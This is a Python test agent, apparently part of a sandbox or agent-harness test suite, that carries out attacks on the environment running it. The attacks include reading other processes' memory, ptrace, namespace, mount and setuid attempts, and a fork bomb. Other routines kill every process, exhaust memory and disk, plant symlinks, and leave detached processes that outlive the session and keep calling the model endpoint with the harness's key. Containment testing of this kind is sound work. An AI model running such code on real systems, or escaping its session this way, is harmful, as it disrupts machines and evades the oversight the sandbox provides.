#!/usr/bin/env python3
"""An agent program that attacks what it runs in. Python 3.9, standard library only.

It speaks the line protocol of the stdio adapter (docs/adapters.md), or ACP where its first argument is acp. A turn's message is a
JSON list of attacks, {"do": NAME, ...}, which it carries out one after the other. What came of each, [reached, detail], is the text of the turn. Run as a plain process it
does the same: there nearly everything is reached, and that is what makes a refusal inside mean something.
"""
import base64, ctypes, errno, fcntl, json, mmap, os, resource, signal, socket, struct, sys, time, urllib.error, urllib.request

libc = ctypes.CDLL(None, use_errno=True)
PATIENCE = 3  # seconds for an answer that does not come


class Refused(Exception):
    """Says that nothing was reached, and why."""


def say(**message):
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def emit(kind, **data):
    say(type="event", event={"type": kind, "data": data})


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), "")
    return result


def shown(content):
    return "%d bytes %r" % (len(content), content[:200])


def apart(attempt):
    """Makes an attempt in a child, so that what it changes of its own process is gone with it."""
    pid = os.fork()
    if pid == 0:
        code = 255
        try:
            attempt()
            code = 0
        except OSError as e:
            code = e.errno or 255
        finally:
            os._exit(code)
    status = os.waitpid(pid, 0)[1]
    code = os.WEXITSTATUS(status) if os.WIFEXITED(status) else 255
    if code:
        raise OSError(code, "")
    return "done"


# Files.

def read(path, **_):
    with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as f:
        return shown(f.read(65536) or b"")


def write(path, **_):
    with open(path, "ab") as f:
        f.write(b"hostile\n")


def open_write(path, **_):
    """Opens for writing and writes nothing: on a host that would break something."""
    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))


def listing(path, **_):
    return " ".join(os.listdir(path))[:200]


def device(path, **_):
    os.mknod(path, 0o20600, os.makedev(1, 3))
    os.remove(path)


# Processes. 0 as pid is the program itself.

def of_process(pid, name, **_):
    return read("/proc/%d/%s" % (pid, name))


def memory(pid, **_):
    with open("/proc/%d/maps" % pid) as maps:
        line = maps.readline()
    if not line:
        raise Refused("its maps are empty")
    with open("/proc/%d/mem" % pid, "rb", 0) as mem:
        mem.seek(int(line.split("-")[0], 16))
        return shown(mem.read(64))


def process_vm_readv(pid, address, **_):
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    here, there = Vector(ctypes.addressof(buffer), 64), Vector(address, 64)
    checked(libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))


def ptrace(pid, **_):
    attach, detach = 16, 17

    def attempt():
        checked(libc.ptrace(attach, pid, None, None))
        os.waitpid(pid, 0x40000000)
        checked(libc.ptrace(detach, pid, None, None))
    return apart(attempt)


def signalled(pid, **_):
    os.kill(pid, 0)


def shared_memory(key, **_):
    checked(libc.shmget(key, 0, 0))


def stray_pids(**_):
    """Processes besides the program, its runner, and what it was started by."""
    found = sorted(int(n) for n in os.listdir("/proc") if n.isdigit() and int(n) not in (1, os.getpid()))
    if not found:
        raise Refused("it is alone")
    return str(found[:50])


# Network.

def tcp(host, port, **_):
    socket.create_connection((host, port), PATIENCE).close()


def udp(host, port, **_):
    query = struct.pack(">6H", 0x4711, 0x100, 1, 0, 0, 0) + b"\x06secret\x07example\x03com\x00" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect((host, port))
        s.send(query)
        return shown(s.recv(512))


def unix(path, **_):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(PATIENCE)
        s.connect("\0" + path[1:] if path[0] == "@" else path)


def open_socket(family, kind, **_):
    socket.socket(getattr(socket, family), getattr(socket, kind), socket.IPPROTO_ICMP if kind == "SOCK_RAW" and family == "AF_INET" else 0).close()


# The kernel.

def mount(path, **_):
    def attempt():
        checked(libc.mount(b"none", path.encode(), b"tmpfs", 0, None))
        checked(libc.umount2(path.encode(), 2))
    return apart(attempt)


def unshare(flags, **_):
    return apart(lambda: checked(libc.unshare(flags)))


def clone_namespace(flags, **_):
    pid = checked(libc.syscall({"x86_64": 56, "aarch64": 220}[os.uname().machine], flags | signal.SIGCHLD, 0, 0, 0, 0))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def setns(path, **_):
    def attempt():
        fd = os.open(path, os.O_RDONLY)
        checked(libc.setns(fd, 0))
    return apart(attempt)


def chroot(path, **_):
    return apart(lambda: os.chroot(path))


def setuid(uid, **_):
    return apart(lambda: os.setresuid(uid, uid, uid))


def add_key(**_):
    process_keyring = -2
    number = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
    return apart(lambda: checked(libc.syscall(number, b"user", b"cofferdam-escape", b"x", 1, process_keyring)))


def raise_limit(name, value, **_):
    def attempt():
        try:
            resource.setrlimit(getattr(resource, name), (value, value))
        except ValueError:  # what Python makes of EPERM
            raise OSError(errno.EPERM, "") from None
    return apart(attempt)


def descriptors(count, **_):
    fds = []
    try:
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (2 * count, 2 * count))
        except ValueError:
            pass
        while len(fds) < count:
            fds.append(os.dup(0))
    finally:
        for fd in fds:
            os.close(fd)


def core_dump(path, **_):
    """Dumps core into a folder; reached where a core is written or promised."""
    pid = os.fork()
    if pid == 0:
        os.chdir(path)
        os.abort()
    status = os.waitpid(pid, 0)[1]
    if not os.WCOREDUMP(status):
        raise Refused("no core")


# What is not tried outside: it would hurt the machine. Each looks first at where it is.

def inside():
    if os.getuid() != 1000 or os.uname().nodename != "sandbox":
        raise Refused("this is no sandbox")


def kill_everything(**_):
    inside()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for target in (1, -1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
                sys.stderr.write("signalled %d with %d\n" % (target, number))
            except OSError:
                pass
    return "it lives"


def hog_memory(**_):
    inside()
    held = []
    while True:
        piece = mmap.mmap(-1, 8 << 20)
        for at in range(0, len(piece), 4096):
            piece[at] = 1
        held.append(piece)


def hog_files(path, size, **_):
    """Fills a file system: with large files, or with as many empty ones as it takes."""
    inside()
    n = 0
    while True:
        with open(os.path.join(path, "f%d" % n), "wb", 0) as f:
            for _ in range(16 if size else 0):
                if f.write(b"x" * size) < size:
                    raise OSError(errno.ENOSPC, "")
        n += 1


def bomb(**_):
    """Forks until the kernel says no, everywhere at once."""
    inside()
    first = os.getpid()
    while True:
        try:
            os.fork()
        except OSError:
            if os.getpid() == first:
                raise
            time.sleep(3600)


def orphans(count, **_):
    """Makes processes that are nobody's and have ended, more of them than there may be at once."""
    inside()
    for n in range(count):
        pid = os.fork()
        if pid == 0:
            try:
                os.fork()
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        while len([p for p in os.listdir("/proc") if p.isdigit()]) > 8:  # which ends when somebody waits for them
            time.sleep(0.001)
    return "made %d orphans" % count


def spin(processes, **_):
    inside()
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    while True:
        pass


def burn_processor(seconds, **_):
    inside()
    resource.setrlimit(resource.RLIMIT_CPU, (seconds, 100 * seconds))  # the first tells, the second kills
    while True:
        pass


def stay(**_):
    """Ignores what it is told, and leaves others behind that have left its session and group."""
    inside()
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3600)
            os._exit(0)
    emit("text.started", message_id="staying", role="assistant")
    emit("text.delta", message_id="staying", delta="staying")
    time.sleep(3600)


def links(paths, **_):
    """Puts links where the worker is going to write for the program."""
    inside()
    for path, target in paths:
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                os.rename(path, path + ".moved")
            elif os.path.lexists(path):
                os.remove(path)
            os.symlink(target, path)
        except OSError as e:
            sys.stderr.write("%s: %s\n" % (path, e.strerror))
    return "linked"


def garbage(kind, **_):
    inside()
    out = sys.stdout.buffer
    if kind == "bytes":
        out.write(b"\x00\xff\xfe not a message\n")
    elif kind == "endless line":
        while True:
            out.write(b"x" * 65536)
    elif kind == "flood":
        while True:
            out.write(b'{"type":"log","text":"flood"}\n')
    elif kind == "end":
        emit("run.finished", stop_reason="stop")
    elif kind == "silence":
        os.close(1)
    out.flush()
    time.sleep(3600)


# The endpoints: of the model, and of the tools where it is hosted as one that takes them by MCP.

init = {}


def ask(url, key, question):
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", "Authorization": "Bearer " + key}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, json.dumps(question).encode(), headers), timeout=30) as answer:
            answer.read()  # one that is not read to its end is the run's failure
            return "%d" % answer.status
    except urllib.error.HTTPError as e:
        raise Refused("%d" % e.code) from None
    except urllib.error.URLError as e:
        raise e.reason


def ask_model(url, key):
    return ask(url + "/chat/completions", key, {"model": init["model"]["alias"], "messages": [{"role": "user", "content": "hello"}]})


def ask_tools(url, key):
    return ask(url, key, {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})


def endpoint():
    return {"url": init["model"]["base_url"], "key": init["model"]["key"], "mcp": init.get("mcp", "")}


def picked(path, **values):
    """Values as they are, this turn's own, or those that an earlier turn kept."""
    kept = {}
    if path:
        with open(path) as f:
            kept = json.load(f)
    return [{"own": endpoint()[name], "kept": kept.get(name), "none": ""}.get(value, value) for name, value in values.items()]


def model(path="", url="own", key="own", **_):
    return ask_model(*picked(path, url=url, key=key))


def tools(path="", mcp="own", key="own", **_):
    return ask_tools(*picked(path, mcp=mcp, key=key))


def keep_endpoint(path, **_):
    with open(path, "w") as f:
        json.dump(endpoint(), f)


def wait_for(path, **_):
    while not os.path.exists(path):
        time.sleep(0.02)


def haunt(path, **_):
    """Leaves a process behind that asks the model for ever, and notes when it was answered."""
    inside()
    if os.fork() > 0:
        return "left behind"
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    for fd in (0, 1, 2):
        os.close(fd)
    while True:
        try:
            note = ask_model(init["model"]["base_url"], init["model"]["key"])
        except (OSError, Refused) as e:
            note = str(e)
        with open(path, "a") as f:
            f.write("%f %s\n" % (time.time(), note))
        time.sleep(0.1)


ATTACKS = {f.__name__: f for f in (
    read, write, open_write, listing, device, of_process, memory, process_vm_readv, ptrace, signalled, shared_memory, stray_pids, tcp, udp, unix,
    open_socket, mount, unshare, clone_namespace, setns, chroot, setuid, add_key, raise_limit, descriptors, core_dump, kill_everything,
    hog_memory, hog_files, bomb, orphans, spin, burn_processor, stay, links, garbage, model, tools, keep_endpoint, wait_for, haunt)}


def attempt(attack):
    try:
        return [True, ATTACKS[attack["do"]](**{k: v for k, v in attack.items() if k != "do"}) or ""]
    except Refused as e:
        return [False, str(e)]
    except socket.timeout:
        return [False, "timeout"]
    except OSError as e:
        if attack.get("fatal"):
            raise
        return [False, errno.errorcode.get(e.errno, str(e))]


def pieces(attacks):
    """What came of attacks, in pieces that fit into a message."""
    text = json.dumps([attempt(attack) for attack in json.loads(attacks)])
    return [text[at:at + 16384] for at in range(0, len(text), 16384)]


def by_lines():
    init.update(json.loads(sys.stdin.buffer.readline()))
    turn = json.loads(sys.stdin.buffer.readline())
    say(type="ready", protocol=1)
    results = pieces(turn["message"])
    emit("text.started", message_id="results", role="assistant")
    for piece in results:
        emit("text.delta", message_id="results", delta=piece)
    emit("text.finished", message_id="results")
    say(type="commit", state=base64.b64encode(b"hostile").decode(), stop_reason="stop")


def by_acp(base, key, alias):
    init.update(model={"base_url": base + "/v1", "key": key, "alias": alias}, mcp=base + "/mcp")
    for line in sys.stdin.buffer:
        message = json.loads(line)
        result = {}
        if message.get("method") == "initialize":
            result = {"protocolVersion": 1, "agentCapabilities": {"loadSession": True}}
        elif message.get("method") == "session/new":
            with open(os.path.expanduser("~/session"), "w") as f:
                f.write("hostile")
            result = {"sessionId": "hostile"}
        elif message.get("method") == "session/prompt":
            for piece in pieces(message["params"]["prompt"][0]["text"]):
                update = {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": piece}}
                say(jsonrpc="2.0", method="session/update", params={"sessionId": "hostile", "update": update})
            result = {"stopReason": "end_turn"}
        if "id" in message:
            say(jsonrpc="2.0", id=message["id"], result=result)


by_acp(*sys.argv[2:]) if sys.argv[1:2] == ["acp"] else by_lines()
